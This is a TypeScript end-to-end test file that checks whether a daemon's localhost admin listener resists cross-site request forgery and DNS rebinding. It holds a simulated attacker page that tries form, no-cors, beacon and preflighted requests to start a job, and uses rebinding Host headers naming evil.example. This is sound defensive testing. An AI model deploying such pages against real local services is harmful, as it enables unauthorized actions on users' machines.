// The admin listener against web pages, with the built daemon and headless Chromium: a page on another
// origin (same site on another port, and another site) tries every request a page can send without a
// preflight (a form, no-cors fetches) and those that need one, and tries to read /status; a DNS-rebinding
// name mapped onto the listener gets 421. No run starts; the daemon's own page and tools still work.
import assert from 'node:assert/strict';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { runJob, waitReady } from './helpers/admin-api.js';
import { dumpDom, visibleText } from './helpers/chromium.js';
import { type DaemonProcess, freePort, startDaemon } from './helpers/daemon-process.js';

/** What the attacker's page does; it posts what it saw back to its own server. */
function attackerPage(admin: string): string {
  return `<!doctype html><html><body>
<iframe name="sink"></iframe>
<form id="f" method="POST" action="${admin}/jobs/oci-sync/run" target="sink" enctype="text/plain">
<input name='{"x":"' value='"}'></form>
<script>
const A = ${JSON.stringify(admin)};
const seen = {};
async function attempt(name, fn) {
  try { seen[name] = await fn(); } catch (e) { seen[name] = 'error: ' + e.name; }
}
(async () => {
  document.getElementById('f').submit();
  await attempt('no-cors', async () => (await fetch(A + '/jobs/oci-sync/run', { method: 'POST', mode: 'no-cors' })).type);
  await attempt('no-cors-text', async () => (await fetch(A + '/jobs/oci-sync/run', {
    method: 'POST', mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body: '{}' })).type);
  await attempt('beacon', async () => navigator.sendBeacon(A + '/jobs/oci-sync/run', '{}'));
  await attempt('cors-json', async () => (await fetch(A + '/jobs/oci-sync/run', {
    method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' })).status);
  await attempt('cors-header', async () => (await fetch(A + '/jobs/oci-sync/run', {
    method: 'POST', headers: { 'x-trivy-mirror': '1' } })).status);
  await attempt('read-status', async () => (await (await fetch(A + '/status')).text()).slice(0, 40));
  await new Promise((r) => setTimeout(r, 500));
  await fetch('/report', { method: 'POST', body: JSON.stringify(seen) });
  document.body.setAttribute('data-done', JSON.stringify(seen));
})();
</script></body></html>`;
}

describe('admin listener against web pages (headless Chromium)', { timeout: 180_000 }, () => {
  let dir: string;
  let daemon: DaemonProcess;
  let adminPort: number;
  let attacker: Server;
  let attackerPort: number;
  let cfg: string;
  const reports: Record<string, unknown>[] = [];
  const guardConfig = (allowedHost: string) => `stateDir: ${dir}/state
admin: { listen: 127.0.0.1:${adminPort}, allowedHosts: [${allowedHost}] }
log: { level: debug, format: json }
plugins:
  auth-providers: { enabled: false }
  oci-sync: { artifacts: [] }
  vexhub-mirror: { repositories: [] }
  cache-populator: { targets: [] }
`;

  before(async () => {
    dir = await mkdtemp(join(tmpdir(), 'tm-e2e-admin-guard-'));
    adminPort = await freePort();
    cfg = join(dir, 'config.yaml');
    await writeFile(cfg, guardConfig('ops-tunnel.test'));
    daemon = await startDaemon({ args: ['run', '--config', cfg], adminUrl: `http://127.0.0.1:${adminPort}` });
    await waitReady(daemon, 20_000);
    attacker = createServer((req, res) => {
      if (req.url === '/report') {
        let body = '';
        req.on('data', (d) => (body += d));
        req.on('end', () => {
          reports.push(JSON.parse(body) as Record<string, unknown>);
          res.end('ok');
        });
        return;
      }
      res.writeHead(200, { 'content-type': 'text/html' });
      res.end(attackerPage(`http://127.0.0.1:${adminPort}`));
    });
    attackerPort = await freePort();
    await new Promise<void>((r) => attacker.listen(attackerPort, '127.0.0.1', r));
  });

  after(async () => {
    await daemon?.stop();
    attacker?.close();
    if (dir) await rm(dir, { recursive: true, force: true });
  });

  const adminRuns = () => daemon.logs().filter((l) => l.msg === 'job started' && l.reason === 'admin');
  const jobPosts = () =>
    daemon
      .logs()
      .filter((l) => l.msg === 'request' && l.method === 'POST' && l.path === '/jobs/oci-sync/run');

  for (const [label, origin, rules] of [
    // Same site (127.0.0.1), another port: Sec-Fetch-Site same-site, Origin another origin.
    ['another origin on the same site', () => `http://127.0.0.1:${attackerPort}/`, []],
    // Another site, as a page on the internet would be.
    [
      'another site',
      () => `http://attacker.test:${attackerPort}/`,
      ['--host-resolver-rules=MAP attacker.test 127.0.0.1'],
    ],
  ] as const) {
    test(`a page on ${label} starts no job and reads nothing`, async () => {
      const postsBefore = jobPosts().length;
      reports.length = 0;
      const dom = await dumpDom(origin(), [...rules, '--virtual-time-budget=10000']);
      assert.equal(reports.length, 1, `the page reported back: ${dom.slice(0, 500)}`);
      const seen = reports[0]!;
      // The preflighted ones never get sent: the listener answers no CORS preflight.
      assert.equal(seen['cors-json'], 'error: TypeError');
      assert.equal(seen['cors-header'], 'error: TypeError');
      assert.equal(seen['read-status'], 'error: TypeError');
      assert.equal(seen['no-cors'], 'opaque', 'the no-cors POST was sent');
      // The simple ones reached the listener and were refused.
      const posts = jobPosts().slice(postsBefore);
      assert.ok(posts.length >= 3, `form, no-cors fetches and beacon arrived: ${JSON.stringify(posts)}`);
      for (const p of posts) assert.equal(p.status, 403, JSON.stringify(p));
      assert.deepEqual(adminRuns(), [], 'no run started from a page');
    });
  }

  test('a DNS-rebinding name gets 421 from Chromium, the listen address and allowedHosts get the page', async () => {
    const rebound = await dumpDom(`http://rebind.test:${adminPort}/status`, [
      '--host-resolver-rules=MAP rebind.test 127.0.0.1',
    ]);
    assert.match(visibleText(rebound), /misdirected request/);
    assert.doesNotMatch(rebound, /"version"|"jobs"/);
    const page = await dumpDom(`http://rebind.test:${adminPort}/`, [
      '--host-resolver-rules=MAP rebind.test 127.0.0.1',
    ]);
    assert.doesNotMatch(visibleText(page), /Jobs/);
    for (const name of ['127.0.0.1', 'localhost', 'ops-tunnel.test']) {
      const own = await dumpDom(`http://${name}:${adminPort}/`, [
        `--host-resolver-rules=MAP ops-tunnel.test 127.0.0.1`,
      ]);
      assert.match(visibleText(own), /trivy-mirror.*Jobs/s, name);
    }
  });

  test('Host headers of a rebinding: 421 on GET and POST; tools with a JSON body or X-Trivy-Mirror run jobs', async () => {
    const base = `http://127.0.0.1:${adminPort}`;
    for (const host of [`evil.example:${adminPort}`, 'evil.example', `127.0.0.1.evil.example:${adminPort}`]) {
      const get = await rawRequest(base, '/status', 'GET', { host });
      assert.equal(get.status, 421, host);
      assert.doesNotMatch(get.body, /"version"/);
      assert.equal(
        (await rawRequest(base, '/jobs/oci-sync/run', 'POST', { host, 'x-trivy-mirror': '1' })).status,
        421,
      );
    }
    assert.equal((await rawRequest(base, '/status', 'GET', { host: `localhost:${adminPort}` })).status, 200);
    assert.equal((await rawRequest(base, '/jobs/oci-sync/run', 'POST', {})).status, 403);
    const json = await fetch(`${base}/jobs/oci-sync/run`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: '{}',
    });
    assert.equal(json.status, 202);
    await json.arrayBuffer();
    const finished = await runJob(daemon, 'oci-sync');
    assert.equal(finished.status, 'skipped');
    assert.ok(adminRuns().length >= 1);
  });

  test('SIGHUP applies a changed admin.allowedHosts at once: the new name is let in, the old one gets 421', async () => {
    const base = `http://127.0.0.1:${adminPort}`;
    await writeFile(cfg, guardConfig('new-tunnel.test'));
    daemon.child.kill('SIGHUP');
    await daemon.waitForLog((l) => l.msg === 'configuration reloaded', 15_000);
    assert.equal(
      (await rawRequest(base, '/status', 'GET', { host: `new-tunnel.test:${adminPort}` })).status,
      200,
    );
    assert.equal(
      (await rawRequest(base, '/status', 'GET', { host: `ops-tunnel.test:${adminPort}` })).status,
      421,
    );
  });
});

/** A request with exactly these headers (fetch would set Host itself). */
async function rawRequest(
  base: string,
  path: string,
  method: string,
  headers: Record<string, string>,
): Promise<{ status: number; body: string }> {
  const { request } = await import('node:http');
  return new Promise((resolve, reject) => {
    const req = request(`${base}${path}`, { method, headers }, (res) => {
      let body = '';
      res.setEncoding('utf8');
      res.on('data', (d: string) => (body += d));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, body }));
    });
    req.on('error', reject);
    req.end();
  });
}
